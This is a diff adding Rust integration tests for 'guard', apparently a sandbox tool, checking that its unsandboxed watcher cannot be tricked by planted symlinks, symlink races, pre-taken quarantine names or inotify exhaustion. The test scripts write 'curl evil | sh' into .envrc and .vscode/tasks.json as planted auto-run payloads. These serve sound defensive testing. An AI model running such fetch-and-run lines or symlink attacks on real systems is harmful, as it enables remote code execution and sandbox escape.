@@ -1,0 +1,144 @@
+//! guard's own host-side code (unsandboxed) acts on paths the sandbox can
+//! write: the protected-path watcher and the checks after the run, and the
+//! lookup of npm's registry. A hostile command plants links, names and
+//! files so that guard, outside the sandbox, touches something it should
+//! not, misses something that runs later, or runs something itself.
+
+mod common;
+
+use common::{Env, TempDir, canary, modes};
+use std::path::Path;
+
+/// Entries of `dir` whose name contains `part`.
+fn names_with(dir: &Path, part: &str) -> Vec<String> {
+    std::fs::read_dir(dir)
+        .map(|rd| {
+            rd.filter_map(|e| e.ok())
+                .map(|e| e.file_name().to_string_lossy().into_owned())
+                .filter(|n| n.contains(part))
+                .collect()
+        })
+        .unwrap_or_default()
+}
+
+/// A link planted in place of a protected path's parent must never make
+/// guard rename what the link points at: the victim outside the project
+/// stays where it is, the link is what gets moved aside. Also while the
+/// sandbox keeps swapping a real directory for the link under the watcher.
+#[test]
+fn a_planted_link_never_makes_guard_rename_outside_the_project() {
+    for mode in modes() {
+        for race in [false, true] {
+            let env = Env::new(mode);
+            let victim = TempDir::new("victim", mode);
+            let secret = canary("VICTIM");
+            victim.write("tasks.json", &secret);
+            victim.write(".envrc", &secret);
+            victim.own(mode);
+            let v = victim.path.display();
+            let script = if race {
+                // ~3 s of swapping, well past the watcher's start.
+                format!(
+                    "end=$(( $(date +%s) + 3 )); \
+                     while [ $(date +%s) -lt $end ]; do \
+                       mkdir -p .vscode; echo x > .vscode/tasks.json; rm -rf .vscode; \
+                       ln -s {v} .vscode; rm -f .vscode; \
+                     done; ln -s {v} .vscode; ln -s {v}/.envrc .envrc; sleep 1; \
+                     cat .vscode/tasks.json .envrc 2>&1; echo done=1"
+                )
+            } else {
+                format!(
+                    "ln -s {v} .vscode && ln -s {v}/.envrc .envrc && echo planted=1; sleep 1.5; \
+                     cat .vscode/tasks.json .envrc 2>&1; echo done=1"
+                )
+            };
+            env.own();
+            let out = env.sh(&script);
+            out.expect_code(0);
+            assert_eq!(out.field("done").as_deref(), Some("1"), "{}", out.all());
+            // The attack failed: the victim is where it was, unchanged.
+            assert_eq!(
+                std::fs::read_to_string(victim.join("tasks.json")).ok(),
+                Some(secret.clone()),
+                "race={race}: {}",
+                out.all()
+            );
+            assert_eq!(
+                std::fs::read_to_string(victim.join(".envrc")).ok(),
+                Some(secret.clone())
+            );
+            assert!(
+                names_with(&victim.path, "quarantine").is_empty(),
+                "guard renamed inside the victim: {:?}",
+                names_with(&victim.path, "")
+            );
+            // For the right reason: the links themselves were moved aside.
+            for link in [".vscode", ".envrc"] {
+                assert!(
+                    std::fs::symlink_metadata(env.project.join(link)).is_err(),
+                    "race={race}: {link} left in place: {}",
+                    out.all()
+                );
+            }
+            assert!(out.stderr.contains("moved it to"), "{}", out.all());
+            assert!(!out.stderr.contains("could not move"), "{}", out.all());
+            // The sandbox never saw the victim through its link.
+            out.assert_no_canary(&secret);
+        }
+    }
+}
+
+/// The quarantine names are predictable (a timestamp and a counter); the
+/// sandbox makes them first, as non-empty directories a rename cannot
+/// replace. The planted file must still go.
+#[test]
+fn predicted_quarantine_names_do_not_keep_a_planted_file() {
+    for mode in modes() {
+        let env = Env::new(mode);
+        env.own();
+        let out = env.sh(
+            "now=$(date +%s); for t in $(seq $((now - 1)) $((now + 8))); do for n in $(seq 0 20); do \
+               mkdir -p .envrc.guard-quarantine-$t-$n/x .vscode/tasks.json.guard-quarantine-$t-$n/x; \
+             done; done; \
+             echo 'curl evil | sh' > .envrc && echo '{}' > .vscode/tasks.json && echo planted=1; \
+             sleep 1.2; [ -e .envrc ] && echo during=present || echo during=gone",
+        );
+        out.expect_code(0);
+        assert_eq!(out.field("planted").as_deref(), Some("1"), "{}", out.all());
+        // Moved aside during the run, despite every predicted name taken.
+        assert_eq!(out.field("during").as_deref(), Some("gone"), "{}", out.all());
+        assert!(!env.project.join(".envrc").exists(), "{}", out.all());
+        assert!(!env.project.join(".vscode/tasks.json").exists());
+        assert!(out.stderr.contains("moved it to"), "{}", out.all());
+        assert!(!out.stderr.contains("could not move"), "{}", out.all());
+    }
+}
+
+/// The sandbox uses up the inotify instances and watches of its uid before
+/// the watcher starts: guard cannot watch, so the check after the run must
+/// still move the planted file aside.
+#[test]
+fn exhausted_inotify_still_leaves_nothing_planted() {
+    for mode in modes() {
+        let env = Env::new(mode);
+        env.own();
+        let script = common::py(
+            "import ctypes, os, time
+libc = ctypes.CDLL(None, use_errno=True)
+fds = []
+while len(fds) < 100000:
+    fd = libc.inotify_init1(0)
+    if fd < 0:
+        break
+    fds.append(fd)
+print(\"instances=%d errno=%d\" % (len(fds), ctypes.get_errno()))
+open(\".envrc\", \"w\").write(\"curl evil | sh\\n\")
+time.sleep(1.5)",
+        );
+        let out = env.sh(&script);
+        out.expect_code(0);
+        assert!(out.stdout.contains("instances="), "{}", out.all());
+        assert!(!env.project.join(".envrc").exists(), "{}", out.all());
+        assert!(out.stderr.contains("moved it to"), "{}", out.all());
+    }
+}
